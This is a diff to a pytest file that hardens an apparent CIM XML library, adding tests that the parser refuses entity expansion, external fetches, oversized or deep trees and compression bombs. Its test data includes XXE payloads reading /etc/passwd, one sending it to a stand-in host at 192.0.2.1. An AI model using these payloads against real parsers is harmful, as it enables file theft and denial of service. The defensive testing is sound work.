@@ -2,17 +2,31 @@
 
 import base64
 import gzip
+import io
+import socket
 import zlib
+from contextlib import suppress
 from pathlib import Path
+from random import Random
 
 import pytest
 
+from cim.compressed import MAX_INFLATED, MAX_RATIO
 from cim.elements import MessageRefused
 from cim.messages import read
 from cim.profiles import end_device_config
 from cim.tests.examples import der_event
 from cim.validation import validate
-from cim.xml import MAX_BYTES, MAX_DEPTH, MAX_ELEMENTS, XmlRefused, parse, pretty, serialize
+from cim.xml import (
+    MAX_BYTES,
+    MAX_DEPTH,
+    MAX_ELEMENTS,
+    XmlRefused,
+    iterate,
+    parse,
+    pretty,
+    serialize,
+)
 
 BILLION_LAUGHS = (
     '<!DOCTYPE a [<!ENTITY x "ha">'
@@ -72,6 +86,15 @@ REFUSED: dict[str, tuple[bytes, set[str]]] = {
     "gzip": (gzip.compress(b"<a/>"), {"encoding"}),
     "too large": (b"<a>" + b"x" * MAX_BYTES + b"</a>", {"size"}),
     "too deep": (b"<a>" * (MAX_DEPTH + 1) + b"</a>" * (MAX_DEPTH + 1), {"depth"}),
+    "as deep as a huge tree may be": (b"<a>" * 2_048 + b"</a>" * 2_048, {"depth"}),
+    "one byte too large": (b"<a>" + b"x" * (MAX_BYTES - 6) + b"</a>", {"size"}),
+    "2,000,000 elements": (b"<a>" + b"<b/>" * 2_000_000 + b"</a>", {"size"}),
+    "entity in an attribute": (b'<!DOCTYPE a [<!ENTITY x "y">]><a b="&x;"/>', {"doctype"}),
+    "external entity by parameter": (
+        b'<!DOCTYPE a [<!ENTITY % x SYSTEM "file:///etc/passwd"> '
+        b"<!ENTITY % y \"<!ENTITY z SYSTEM 'http://192.0.2.1/?%x;'>\"> %y;]><a>&z;</a>",
+        {"doctype", "syntax"},
+    ),
     "far too deep": (b"<a>" * 100_000 + b"</a>" * 100_000, {"depth"}),
     "too many elements": (b"<a>" + b"<b/>" * MAX_ELEMENTS + b"</a>", {"elements"}),
     "far too many elements": (b"<a>" + b"<b/>" * 1_000_000 + b"</a>", {"elements"}),
@@ -101,6 +124,73 @@ def test_is_refused(data: bytes, rules: set[str]) -> None:
     with pytest.raises(XmlRefused) as refused:
         parse(data)
     assert refused.value.rule in rules
+
+
+@pytest.mark.parametrize("data", [data for data, _ in REFUSED.values()], ids=REFUSED)
+def test_is_refused_in_a_stream(data: bytes) -> None:
+    limits = {"max_bytes": MAX_BYTES, "max_elements": MAX_ELEMENTS}
+    with pytest.raises(XmlRefused):
+        list(iterate(io.BytesIO(data), "b", **limits))
+
+
+FETCHING = {
+    "external entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "{url}">]><a>&x;</a>',
+    "parameter entity": '<!DOCTYPE a [<!ENTITY % x SYSTEM "{url}"> %x;]><a/>',
+    "external document type": '<!DOCTYPE a SYSTEM "{url}"><a/>',
+    "public document type": '<!DOCTYPE a PUBLIC "-//X//Y" "{url}"><a/>',
+    "inclusion": '<a xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="{url}"/></a>',
+    "style sheet": '<?xml-stylesheet href="{url}"?><a/>',
+    "schema location": (
+        '<a xmlns:x="http://www.w3.org/2001/XMLSchema-instance" x:schemaLocation="urn:a {url}"/>'
+    ),
+}
+
+
+@pytest.mark.parametrize("text", FETCHING.values(), ids=FETCHING)
+def test_nobody_is_called(text: str) -> None:
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+        data = text.format(url=f"http://127.0.0.1:{listener.getsockname()[1]}/a").encode()
+        with suppress(XmlRefused):
+            validate(serialize(parse(data)))
+        with suppress(XmlRefused):
+            list(iterate(io.BytesIO(data), "a", max_bytes=1_000, max_elements=10))
+        listener.setblocking(False)
+        with pytest.raises(BlockingIOError):
+            listener.accept()
+
+
+def test_a_file_is_not_opened_by_its_path(tmp_path: Path) -> None:
+    packed = tmp_path / "message.xml.gz"
+    packed.write_bytes(gzip.compress(b"<a/>"))
+    for data in (str(packed).encode(), packed.as_uri().encode(), packed.read_bytes()):
+        with pytest.raises(XmlRefused):
+            parse(data)
+
+
+def test_too_many_elements_are_counted_before_a_tree_is_made(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr("cim.xml._tree", lambda data: pytest.fail("a tree was made"))
+    data = b"<a>" + b"<b/>" * 2_000_000 + b"</a>"
+    with pytest.raises(XmlRefused) as refused:
+        parse(data, max_bytes=2 * len(data))
+    assert refused.value.rule == "elements"
+
+
+def test_a_huge_text_is_refused_even_where_more_bytes_are_read() -> None:
+    with pytest.raises(XmlRefused) as refused:
+        parse(b"<a>" + b"x" * 11_000_000 + b"</a>", max_bytes=MAX_INFLATED)
+    assert refused.value.rule == "syntax"
+
+
+def test_the_largest_document_is_read() -> None:
+    data = b"<a>" + b"x" * (MAX_BYTES - 7) + b"</a>"
+    assert len(data) == MAX_BYTES
+    assert parse(data).tag == "a"
+
+
+def test_processing_instructions_are_left_out() -> None:
+    assert serialize(parse(b"<?a b?><a><?c d?><b/></a><?e f?>")).endswith(b"<a><b/></a>")
 
 
 @pytest.mark.parametrize("codec", ["utf-8", "utf-8-sig", "utf-16"])
@@ -192,6 +282,12 @@ BAD_COMPRESSED = {
     "data after the end": gzip.compress(b"<a/>") + b"more",
     "not gzip": zlib.compress(b"<a/>"),
     "a document type inside": gzip.compress(b"<!DOCTYPE a><a/>"),
+    "too many elements inside": gzip.compress(b"<a>" + b"<b/>" * 250_000 + b"</a>", 1),
+    "too deep inside": gzip.compress(b"<a>" * 100 + b"</a>" * 100),
+    "an entity inside": gzip.compress(
+        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
+    ),
+    "packed twice": gzip.compress(gzip.compress(b"<a/>")),
     "no XML": gzip.compress(b"hello"),
 }
 
@@ -205,3 +301,13 @@ def test_compressed_payload_is_refused(packed: bytes) -> None:
 def test_compressed_payload_must_be_base64() -> None:
     with pytest.raises(MessageRefused, match="base64"):
         read(_compressed(b"").replace(b"<Compressed>", b"<Compressed>%%%"))
+
+
+def test_compressed_payload_of_a_modest_ratio_is_refused_beyond_20_mb() -> None:
+    """Incompressible pieces between spaces: the ratio stays allowed, the size alone is too much."""
+    some = Random(1)
+    pieces = [some.randbytes(500).hex().encode() + b" " * 19_000 for _ in range(1_100)]
+    packed = gzip.compress(b"<a>" + b"".join(pieces) + b"</a>")
+    assert MAX_INFLATED < 20_000 * 1_100 < MAX_RATIO * len(packed)
+    with pytest.raises(MessageRefused, match=str(MAX_INFLATED)):
+        read(_compressed(packed))
